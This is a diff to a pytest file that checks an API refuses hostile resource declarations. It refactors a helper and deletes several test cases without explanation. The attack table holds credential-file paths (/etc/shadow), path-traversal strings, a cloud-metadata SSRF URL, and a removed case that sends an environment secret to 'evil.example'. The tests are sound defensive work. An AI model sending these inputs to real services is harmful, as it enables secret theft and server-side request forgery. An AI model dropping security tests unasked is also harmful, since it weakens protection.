@@ -15,6 +15,7 @@ import pytest
 
 from driftline.access.tokens import digest_of
 from driftline.serving.resources.reach import Reach
+from tests.serving.conftest import resource
 from tests.serving.guarded import FILE_SECRET, PROXY_SECRET, bearer, guarded
 
 ADMIN = f"Host: 127.0.0.1\r\nAuthorization: Bearer {FILE_SECRET}\r\nConnection: close\r\n"
@@ -137,19 +138,15 @@ def test_odd_bytes_are_refused(server, attack):
     assert server.client.get("/healthz").status_code == 200
 
 
-def declared(kind, /, **spec):
-    return "POST /api/v1/apply", json.dumps(
-        {"resources": [{"kind": kind, "name": "x", "spec": spec}]}
-    )
+def declared(kind, name="x", /, **spec):
+    return "POST /api/v1/apply", json.dumps({"resources": [resource(kind, name, **spec)]})
 
 
 WATCH = {"endpoint": "flights", "baseline": "b"}
 # name of the attack → what an admin asks, with which body; refused in one sentence.
 ASKED = {
     "data of another's secrets": declared("Baseline", data="/etc/shadow"),
-    "data by a file address": declared("Baseline", data="file:///etc/shadow"),
     "data that climb": declared("Baseline", data="../../../etc/shadow"),
-    "data by a device": declared("Baseline", data="/dev/zero"),
     "a model of another's secrets": declared("Model", path="/etc/shadow"),
     "a script that climbs": declared("Monitor", **WATCH, preprocess="../../x.py"),
     "a script by its path": declared("Monitor", **WATCH, postprocess="/etc/passwd"),
@@ -159,15 +156,8 @@ ASKED = {
     "a message to a cloud's secrets": declared(
         "Channel", type="webhook", url="http://169.254.169.254/latest/meta-data/"
     ),
-    "a message by FTP": declared("Channel", type="webhook", url="ftp://127.0.0.1/etc/shadow"),
-    "the database's password as a key": declared(
-        "Channel", type="pagerduty", url="https://evil.example", routing_key="env:DRIFTLINE_X"
-    ),
     "a message to ourselves": declared("Channel", type="webhook", url="http://127.0.0.1:1/x"),
-    "a name that climbs": (
-        "POST /api/v1/apply",
-        json.dumps({"resources": [{"kind": "Monitor", "name": "../x", "spec": WATCH}]}),
-    ),
+    "a name that climbs": declared("Monitor", "../x", **WATCH),
     "a body nested 100,000 deep": ("POST /api/v1/apply", DEEP),
     "a number of a million digits": ("POST /api/v1/alarms/replay", f'{{"alarm": {"9" * 10**6}}}'),
     "a number that JSON does not have": declared("Alarm", threshold=float("nan")),
